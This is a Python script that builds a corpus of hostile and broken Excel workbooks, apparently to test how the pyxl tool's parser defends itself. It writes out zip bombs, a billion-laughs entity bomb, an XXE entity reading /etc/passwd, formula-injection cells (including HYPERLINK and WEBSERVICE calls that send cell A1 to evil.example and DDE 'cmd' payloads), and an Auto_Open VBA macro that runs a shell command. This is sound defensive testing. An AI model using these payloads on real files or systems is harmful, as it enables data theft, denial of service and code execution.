"""Build the hostile and broken workbook corpus into a directory.

    python tests/corpus/make_corpus.py OUTDIR [NAME ...]

Nothing here is committed as a binary: every file is made from the tribunal's seed
(pyxl/data/tribunal.yaml, filled with pyxl) or from scratch, so the big ones (a
million rows, a 2 GiB zip bomb) exist only while the tests run. What each file must
produce is in manifest.toml beside this script; tests/test_corpus.py holds every
file to it.

Three builders need outside tools and say so by raising ``Unavailable``:
``encrypted`` (msoffcrypto-tool, dev extra), ``legacy.xls`` (LibreOffice) and the
macro workbook (the vbaProject.bin shipped inside xlwings, dev extra).
"""

from __future__ import annotations

import io
import re
import shutil
import struct
import sys
import tomllib
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

__all__ = ["BUILDERS", "Unavailable", "build", "build_all", "manifest"]

GIB = 1 << 30


class Unavailable(Exception):
    """A builder's outside tool is missing; the case is skipped, not failed."""


def manifest() -> dict[str, dict[str, Any]]:
    data = tomllib.loads((HERE / "manifest.toml").read_text("utf-8"))
    return {case["file"]: case for case in data["case"]}


# ---------------------------------------------------------------- helpers


def tribunal(path: Path, mutate: Callable[[Any], None] | None = None) -> Path:
    """The tribunal's seed filled into the department template, optionally edited first."""
    from pyxl.api import fill
    from pyxl.core.loader import load_data

    dept = load_data(ROOT / "pyxl" / "data" / "tribunal.yaml")
    if mutate is not None:
        mutate(dept)
    fill(dept, path)
    return path


def edit(src: Path, dst: Path, change: Callable[[Any], None]) -> Path:
    import openpyxl

    wb = openpyxl.load_workbook(src)
    change(wb)
    wb.save(dst)
    return dst


def rezip(src: Path, dst: Path, replace: dict[str, Callable[[bytes], bytes]] | None = None,
          add: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> Path:
    """Copy a zip package, rewriting, adding or dropping parts."""
    replace = replace or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info.filename)
            if info.filename in replace:
                data = replace[info.filename](data)
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dst


def sheet_part(path: Path, sheet: str) -> str:
    """The zip part holding a sheet, by its name."""
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', book)
    if rid is None:
        rid = re.search(rf'<sheet [^>]*r:id="([^"]+)"[^>]*name="{re.escape(sheet)}"', book)
    assert rid, f"no sheet {sheet}"
    target = re.search(rf'<Relationship [^>]*Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels)
    if target is None:
        target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels)
    assert target
    t = target.group(1)
    return t.lstrip("/") if t.startswith("/") else f"xl/{t}"


def raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip written by hand: (name, stored bytes, crc, declared uncompressed size, method).

    zipfile would compress the data itself; a bomb needs a deflate stream built
    without ever holding the gigabytes, and a forged entry needs sizes that lie.
    """
    out = io.BytesIO()
    central = []
    for name, data, crc, size, method in members:
        offset = out.tell()
        raw_name = name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size,
                              len(raw_name), 0))
        out.write(raw_name)
        out.write(data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(data),
                                   size, len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start,
                          start, 0))
    path.write_bytes(out.getvalue())
    return path


def deflated(data: bytes) -> tuple[bytes, int, int, int]:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(), zlib.crc32(data), len(data), zipfile.ZIP_DEFLATED


def zeros_stream(total: int, block: int = 16 << 20) -> tuple[bytes, int]:
    """A raw deflate stream of ``total`` zero bytes, built from one repeated block (seconds, not minutes).

    After a full flush the compressor starts afresh, so every middle block compresses
    to the same bytes: compress three, repeat the middle one.
    """
    assert total % block == 0 and total // block >= 3
    zero = bytes(block)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
    middle = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
    assert middle == again
    last = c.compress(zero) + c.flush()
    n = total // block
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(zero, crc)
    return first + middle * (n - 2) + last, crc


def package_parts(src: Path) -> list[tuple[str, bytes, int, int, int]]:
    with zipfile.ZipFile(src) as z:
        return [(i.filename, *deflated(z.read(i.filename))) for i in z.infolist()]


def sheet_xml(rows: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"<sheetData>{rows}</sheetData></worksheet>").encode()


def plain_book(path: Path) -> Path:
    """A one-sheet workbook (xlsxwriter: shared strings, like Excel writes)."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("项目")
    ws.write("A1", "项目编码")
    ws.write("B1", "hello")
    wb.close()
    return path


# ---------------------------------------------------------------- builders: not a usable zip


def b_corrupt_zip(out: Path, base: Path) -> None:
    data = bytearray(base.read_bytes())
    with zipfile.ZipFile(base) as z:
        info = max(z.infolist(), key=lambda i: i.compress_size)
    # flip bytes inside the largest part's compressed data: the zip directory stays valid
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + info.compress_size // 2
    for i in range(start, start + 64):
        data[i] ^= 0x5A
    out.write_bytes(bytes(data))


def b_truncated(out: Path, base: Path) -> None:
    data = base.read_bytes()
    out.write_bytes(data[: len(data) * 6 // 10])


def b_encrypted(out: Path, base: Path) -> None:
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError as exc:
        raise Unavailable("msoffcrypto-tool is not installed (pip install -e '.[dev]')") from exc
    with open(base, "rb") as src, open(out, "wb") as dst:
        OOXMLFile(src).encrypt("pyxl-2026", dst)


def b_legacy_xls(out: Path, base: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        raise Unavailable("LibreOffice is not installed")
    sys.path.insert(0, str(ROOT / "tests"))
    from libreoffice import convert

    tmp = out.parent / "_xls"
    produced = convert(base, "xls:MS Excel 97", tmp)
    shutil.move(produced, out)
    shutil.rmtree(tmp, ignore_errors=True)


def b_csv_renamed(out: Path, base: Path) -> None:
    out.write_text("项目编码,项目名称,预算数（万元）\n"
                   "144001001,长期聘用人员工资和社会保障缴费,74.5\n", "utf-8")


def b_html_export(out: Path, base: Path) -> None:
    out.write_text('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><table>'
                   "<tr><td>项目编码</td><td>预算数</td></tr><tr><td>144001001</td><td>74.5</td></tr>"
                   "</table></body></html>\n", "utf-8")


def b_zero_bytes(out: Path, base: Path) -> None:
    out.write_bytes(b"")


def b_docx_renamed(out: Path, base: Path) -> None:
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><document/>')


# ---------------------------------------------------------------- builders: a zip, not a workbook pyxl knows


def b_empty_workbook(out: Path, base: Path) -> None:
    import openpyxl

    openpyxl.Workbook().save(out)


def b_missing_sheets(out: Path, base: Path) -> None:
    edit(base, out, lambda wb: wb.remove(wb["绩效指标"]))


# ---------------------------------------------------------------- builders: readable, with messy content


def b_merged_cells(out: Path, base: Path) -> None:
    """Merged 项目编码 and 一级指标 cells down each project's block, as the official form does."""

    def change(wb: Any) -> None:
        ws = wb["绩效指标"]
        header = next(r for r in range(1, 15) if ws.cell(r, 1).value == "项目编码")
        runs: dict[int, list[int]] = {1: [], 3: []}
        last: dict[int, Any] = {}
        r = header + 1
        while ws.cell(r, 5).value not in (None, ""):
            for col in runs:
                value = ws.cell(r, col).value
                if runs[col] and value == last[col]:
                    runs[col][-1] = r
                else:
                    runs[col].append(r)
                    runs[col].append(r)
                last[col] = value
            r += 1
        for col, marks in runs.items():
            for start, end in zip(marks[::2], marks[1::2], strict=True):
                if end > start:
                    ws.merge_cells(start_row=start, start_column=col, end_row=end, end_column=col)

    edit(base, out, change)


def b_text_in_numbers(out: Path, base: Path) -> None:
    def change(wb: Any) -> None:
        ws = wb["项目"]
        header = next(r for r in range(1, 15) if ws.cell(r, 1).value == "项目编码")
        cols = {ws.cell(header, c).value: c for c in range(1, ws.max_column + 1)}
        budget = next(c for h, c in cols.items() if h and str(h).startswith("预算数"))
        ws.cell(header + 1, budget).value = "七十四万五千"
        ws.cell(header + 2, budget).value = "约三点五"
        plan = next(c for h, c in cols.items() if h and str(h).startswith("3月"))
        ws.cell(header + 1, plan).value = "两成半"

    edit(base, out, change)


def b_full_width(out: Path, base: Path) -> None:
    def change(wb: Any) -> None:
        ws = wb["项目"]
        header = next(r for r in range(1, 15) if ws.cell(r, 1).value == "项目编码")
        cols = {ws.cell(header, c).value: c for c in range(1, ws.max_column + 1)}
        budget = next(c for h, c in cols.items() if h and str(h).startswith("预算数"))
        ws.cell(header + 1, budget).value = "７４．５"
        ws.cell(header + 2, budget).value = "３．５万元"

    edit(base, out, change)


def data_cell(base: Path, sheet: str, header: str, row: int = 0) -> str:
    """A1 address of the ``row``-th data cell under the column headed ``header``."""
    import openpyxl
    from openpyxl.utils import get_column_letter

    ws = openpyxl.load_workbook(base)[sheet]
    for r in range(1, 15):
        for c in range(1, ws.max_column + 1):
            value = ws.cell(r, c).value
            if isinstance(value, str) and value.startswith(header):
                return f"{get_column_letter(c)}{r + 1 + row}"
    raise AssertionError(f"no header {header} in {sheet}")


def replace_cell(xml: bytes, ref: str, new: str) -> bytes:
    text = xml.decode()
    cell = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', text)
    assert cell, f"cell {ref} not found"
    return text.replace(cell.group(0), new, 1).encode()


def b_cached_errors(out: Path, base: Path) -> None:
    """Formulas whose cached results are #DIV/0! (a budget) and #REF! (an indicator value)."""
    projects, indicators = sheet_part(base, "项目"), sheet_part(base, "绩效指标")
    budget = data_cell(base, "项目", "预算数", 1)
    value = data_cell(base, "绩效指标", "指标值", 0)
    rezip(base, out, replace={
        projects: lambda x: replace_cell(x, budget, f'<c r="{budget}" t="e"><f>3.5/0</f><v>#DIV/0!</v></c>'),
        indicators: lambda x: replace_cell(x, value, f'<c r="{value}" t="e"><f>#REF!*2</f><v>#REF!</v></c>'),
    })


def b_long_strings(out: Path, base: Path) -> None:
    """Goals and names of exactly 32,767 characters, Excel's limit per cell."""

    def mutate(dept: Any) -> None:
        dept.projects[0].goal = ("保障审判工作正常运转" * 3300)[:32767]
        dept.projects[1].name = ("法" * 32767)
        dept.overall_goal = ("深入贯彻" * 8200)[:32767]

    tribunal(out, mutate)


def b_many_long_texts(out: Path, base: Path) -> None:
    """40 projects whose goal, indicator name, description and value are 32,767 characters each.

    Within every size limit, yet text similarity is quadratic in length: without the
    rules' comparison cap the goal-duplicate check alone runs for minutes.
    """
    import random

    from pyxl.core.model import Indicator, Project

    pool = "保障审判工作正常运转依法履职尽责提高案件办理质效服务对象满意度资金支出计划"

    def text(i: int, what: str) -> str:
        # varied text: repetitive text would be refused by the compression-ratio guard first
        rng = random.Random(f"{what}{i}")
        return what + "".join(rng.choice(pool) for _ in range(32_767 - len(what)))

    def mutate(dept: Any) -> None:
        dept.projects = [
            Project(code=f"9{i:08d}", name=f"项目{i}", budget="10万元", funding={"财政资金": "10万元"},
                    spend_plan={"3月底": "25%", "6月底": "50%", "10月底": "75%", "12月底": "100%"},
                    goal=text(i, "goal"),
                    indicators=[Indicator(level1="产出指标", level2="数量指标", name=text(i, "name"),
                                          description=text(i, "desc"), value=text(i, "value"), basis="计划标准")])
            for i in range(40)
        ]

    tribunal(out, mutate)


def b_over_long_string(out: Path, base: Path) -> None:
    """A 40,000-character cell: no Excel writes it; a generator can."""
    part = sheet_part(base, "项目")
    name = data_cell(base, "项目", "项目名称", 0)
    cell = f'<c r="{name}" t="inlineStr"><is><t>{"长" * 40_000}</t></is></c>'
    rezip(base, out, replace={part: lambda x: replace_cell(x, name, cell)})


def b_formula_injection(out: Path, base: Path) -> None:
    """Names, goals and values that a spreadsheet would run if typed as is."""

    def mutate(dept: Any) -> None:
        dept.name = '=HYPERLINK("http://evil.example/x?"&A1,"点此领取补贴")'
        dept.projects[0].name = "+cmd|' /C calc'!A0"
        dept.projects[0].goal = "@SUM(1+1)*cmd|' /C calc'!A0"
        dept.projects[1].goal = "-2+3+cmd|' /C notepad'!A0"
        dept.projects[1].indicators[0].name = "=1+1"
        dept.targets[0].goal = "=WEBSERVICE(\"http://evil.example/\"&A1)"

    tribunal(out, mutate)


def b_spaces_chinese(out: Path, base: Path) -> None:
    shutil.copyfile(base, out)


# ---------------------------------------------------------------- builders: resource attacks


def b_million_rows(out: Path, base: Path) -> None:
    """1,048,576 rows with a value each, in the 项目 sheet (about 4 MB on disk)."""
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 1_048_577))
    part = sheet_part(base, "项目")
    rezip(base, out, replace={part: lambda _xml: sheet_xml(rows)})


def b_far_cell(out: Path, base: Path) -> None:
    """Two cells, A1 and XFD1048576: tiny on disk, a 17-billion-cell rectangle to calamine."""
    part = sheet_part(base, "项目")
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    rezip(base, out, replace={part: lambda _xml: sheet_xml(rows)})


def b_zip_bomb(out: Path, base: Path) -> None:
    """The 项目 sheet replaced by 2 GiB of zeros (about 2 MB on disk)."""
    part = sheet_part(base, "项目")
    members = [m for m in package_parts(base) if m[0] != part]
    stream, crc = zeros_stream(2 * GIB)
    members.append((part, stream, crc, 2 * GIB, zipfile.ZIP_DEFLATED))
    raw_zip(out, members)


def b_zip_bomb_forged(out: Path, base: Path) -> None:
    """A 1 GiB part whose directory entry claims 4 KB: only inflating it tells."""
    part = sheet_part(base, "项目")
    members = [m for m in package_parts(base) if m[0] != part]
    stream, crc = zeros_stream(1 * GIB)
    members.append((part, stream, crc, 4096, zipfile.ZIP_DEFLATED))
    raw_zip(out, members)


def _with_shared_strings(base: Path, out: Path, sst: str) -> None:
    """The tribunal workbook with a sharedStrings part that the 项目 sheet's first cell uses."""
    part = sheet_part(base, "项目")
    ref = data_cell(base, "项目", "项目名称", 0)

    def use_sst(xml: bytes) -> bytes:
        return replace_cell(xml, ref, f'<c r="{ref}" t="s"><v>0</v></c>')

    def add_rel(xml: bytes) -> bytes:
        rel = ('<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               'relationships/sharedStrings" Target="sharedStrings.xml"/>')
        return xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")

    def add_type(xml: bytes) -> bytes:
        t = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
             'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        return xml.replace(b"</Types>", t.encode() + b"</Types>")

    rezip(base, out, replace={part: use_sst, "xl/_rels/workbook.xml.rels": add_rel,
                              "[Content_Types].xml": add_type},
          add={"xl/sharedStrings.xml": sst.encode()})


ENTITY_BOMB = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "' + (f"&lol{i - 1};" if i > 1 else "&lol;") * 10 + '">'
              for i in range(1, 10))
    + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    "<si><t>&lol9;</t></si></sst>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    "<si><t>&xxe;</t></si></sst>"
)


def b_entity_bomb(out: Path, base: Path) -> None:
    _with_shared_strings(base, out, ENTITY_BOMB)


def b_external_entity(out: Path, base: Path) -> None:
    _with_shared_strings(base, out, EXTERNAL_ENTITY)


# ---------------------------------------------------------------- builders: macros


AUTO_OPEN = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub Auto_Open()\r\n"
    '    Shell "cmd /c echo pwned > %TEMP%\\pyxl-pwned.txt"\r\n'
    "End Sub\r\n"
)


def _ovba_compress(source: bytes) -> bytes:
    """MS-OVBA compression using literal tokens only (valid, if not small); one chunk ≤ 4096 bytes."""
    assert len(source) <= 4096
    body = bytearray()
    for i in range(0, len(source), 8):
        body.append(0)  # flag byte: the next eight tokens are literals
        body += source[i : i + 8]
    header = 0xB000 | (len(body) + 2 - 3)  # signature 0b011, compressed flag, size - 3
    return b"\x01" + struct.pack("<H", header) + bytes(body)


def auto_open_vba() -> bytes:
    """xlwings' own vbaProject.bin with Module1's source replaced by an Auto_Open that runs a shell.

    olefile can only rewrite a stream in place at the same size, so the source is
    padded with a comment until its compressed form fits exactly.
    """
    try:
        import olefile
        import xlwings
        from oletools.olevba import VBA_Parser
    except ImportError as exc:
        raise Unavailable("xlwings and oletools are needed (pip install -e '.[dev]')") from exc
    with zipfile.ZipFile(Path(xlwings.__file__).parent / "quickstart.xlsm") as z:
        vba = z.read("xl/vbaProject.bin")
    ole = olefile.OleFileIO(io.BytesIO(vba))
    stream = ole.openstream("VBA/Module1").read()
    start = _module_offset(ole, "Module1")
    room = len(stream) - start
    for pad in range(0, 4000):
        source = AUTO_OPEN.encode() + b"'" + b"x" * pad + b"\r\n"
        packed = _ovba_compress(source)
        if len(packed) == room:
            break
    else:  # pragma: no cover - sizes are fixed by the xlwings release
        raise Unavailable("could not fit the Auto_Open module into xlwings' VBA project")
    buffer = io.BytesIO(vba)
    ole = olefile.OleFileIO(buffer, write_mode=True)
    ole.write_stream("VBA/Module1", stream[:start] + packed)
    ole.close()
    data = buffer.getvalue()
    assert "Auto_Open" in VBA_Parser("vbaProject.bin", data=data).get_vba_code_all_modules()
    return data


def _module_offset(ole: Any, module: str) -> int:
    """MODULEOFFSET of a module from the VBA project's dir stream (where its compressed source starts)."""
    from oletools.olevba import decompress_stream

    data = decompress_stream(bytearray(ole.openstream("VBA/dir").read()))
    name = module.encode()
    at = data.index(b"\x19\x00" + struct.pack("<L", len(name)) + name)  # MODULENAME record
    at = data.index(b"\x31\x00\x04\x00\x00\x00", at)  # MODULEOFFSET record
    return struct.unpack_from("<L", data, at + 6)[0]


def b_macro_autorun(out: Path, base: Path) -> None:
    vba = auto_open_vba()

    def macro_types(xml: bytes) -> bytes:
        xml = xml.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return xml.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                        b'vnd.ms-office.vbaProject"/></Types>')

    def vba_rel(xml: bytes) -> bytes:
        rel = (b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
               b'vbaProject" Target="vbaProject.bin"/>')
        return xml.replace(b"</Relationships>", rel + b"</Relationships>")

    rezip(base, out, replace={"[Content_Types].xml": macro_types, "xl/_rels/workbook.xml.rels": vba_rel},
          add={"xl/vbaProject.bin": vba})


BUILDERS: dict[str, Callable[[Path, Path], None]] = {
    "corrupt_zip.xlsx": b_corrupt_zip,
    "truncated.xlsx": b_truncated,
    "encrypted.xlsx": b_encrypted,
    "legacy.xls": b_legacy_xls,
    "csv_renamed.xlsx": b_csv_renamed,
    "html_export.xls": b_html_export,
    "zero_bytes.xlsx": b_zero_bytes,
    "word_document.xlsx": b_docx_renamed,
    "empty_workbook.xlsx": b_empty_workbook,
    "missing_sheets.xlsx": b_missing_sheets,
    "merged_cells.xlsx": b_merged_cells,
    "text_in_numbers.xlsx": b_text_in_numbers,
    "full_width_digits.xlsx": b_full_width,
    "cached_errors.xlsx": b_cached_errors,
    "long_strings.xlsx": b_long_strings,
    "over_long_string.xlsx": b_over_long_string,
    "many_long_texts.xlsx": b_many_long_texts,
    "formula_injection.xlsx": b_formula_injection,
    "某人民法庭 2026年 绩效目标.xlsx": b_spaces_chinese,
    "million_rows.xlsx": b_million_rows,
    "far_cell.xlsx": b_far_cell,
    "zip_bomb.xlsx": b_zip_bomb,
    "zip_bomb_forged_sizes.xlsx": b_zip_bomb_forged,
    "entity_bomb.xlsx": b_entity_bomb,
    "external_entity.xlsx": b_external_entity,
    "macro_autorun.xlsm": b_macro_autorun,
}


def base_workbook(outdir: Path) -> Path:
    base = outdir / "_tribunal.xlsx"
    if not base.exists():
        tribunal(base)
    return base


def build(name: str, outdir: Path) -> Path:
    """Build one corpus file (raises Unavailable when its outside tool is missing)."""
    outdir.mkdir(parents=True, exist_ok=True)
    out = outdir / name
    if not out.exists():
        tmp = outdir / f".part-{name}"  # keeps the suffix: pyxl writes only names that say what they are
        BUILDERS[name](tmp, base_workbook(outdir))
        tmp.rename(out)
    return out


def build_all(outdir: Path, names: list[str] | None = None) -> dict[str, Path | str]:
    """Every file (or the named ones): its path, or why it could not be built."""
    done: dict[str, Path | str] = {}
    for name in names or list(BUILDERS):
        try:
            done[name] = build(name, outdir)
        except Unavailable as exc:
            done[name] = str(exc)
    return done


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    for name, result in build_all(Path(sys.argv[1]), sys.argv[2:] or None).items():
        print(f"{name:40} {result}")
